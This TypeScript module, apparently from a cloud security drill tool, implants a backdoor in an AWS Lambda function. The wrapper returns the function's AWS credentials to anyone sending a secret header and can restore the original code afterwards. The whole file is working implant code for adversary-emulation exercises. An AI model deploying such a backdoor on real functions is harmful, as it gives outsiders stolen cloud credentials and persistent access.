import { randomBytes } from 'node:crypto';
import { GetFunctionCommand, type LambdaClient, UpdateFunctionCodeCommand, waitUntilFunctionUpdatedV2 } from '@aws-sdk/client-lambda';
import { CordonError } from './engine/errors.ts';
import { zipOf } from './engine/zip.ts';
import { unzip } from './unzip.ts';

/** What an attacker with the right to deploy leaves in a function: a header that only he knows gives him its session. */
const backdoor = (header: string, word: string): string => `import { handler as original } from './original.mjs';
const knows = (headers) => Object.entries(headers ?? {}).some(([name, value]) => name.toLowerCase() === '${header}' && value === '${word}');
const session = () => ({
  accessKeyId: process.env.AWS_ACCESS_KEY_ID,
  secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY,
  sessionToken: process.env.AWS_SESSION_TOKEN,
});
export const handler = async (event, context) =>
  knows(event.headers) ? { statusCode: 200, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(session()) } : original(event, context);
`;

/** A function with a backdoor in it. */
export interface Implant {
  /** The header that opens it. Its word is new every time: nobody else can use what a drill leaves open. */
  readonly headers: Readonly<Record<string, string>>;
  /** Puts back exactly the code that was there. */
  remove(): Promise<void>;
}

const header = 'x-drill';

const downloaded = async (FunctionName: string, lambda: LambdaClient): Promise<Buffer> => {
  const { Code } = await lambda.send(new GetFunctionCommand({ FunctionName }));
  const answer = await fetch(Code?.Location ?? '');
  if (!answer.ok) throw new CordonError(`the code of ${FunctionName} could not be downloaded: HTTP ${answer.status}`);
  return Buffer.from(await answer.arrayBuffer());
};

/** Rewrites a function so that it still works, and hands out its session to whoever knows the word. */
export const implant = async (FunctionName: string, lambda: LambdaClient): Promise<Implant> => {
  const clean = await downloaded(FunctionName, lambda);
  const files = unzip(clean);
  if (files.some(({ name }) => name === 'original.mjs'))
    throw new CordonError(`${FunctionName} still has the backdoor of a drill that was killed: deploy the application again, then drill`);
  const word = randomBytes(24).toString('hex');
  const update = async (ZipFile: Uint8Array): Promise<void> => {
    await lambda.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile }));
    await waitUntilFunctionUpdatedV2({ client: lambda, maxWaitTime: 60, minDelay: 1 }, { FunctionName });
  };
  await update(
    zipOf([
      ...files.map(({ name, data }) => ({ name: name === 'index.mjs' ? 'original.mjs' : name, data })),
      { name: 'index.mjs', data: Buffer.from(backdoor(header, word)) },
    ]),
  );
  return { headers: { [header]: word }, remove: () => update(clean) };
};
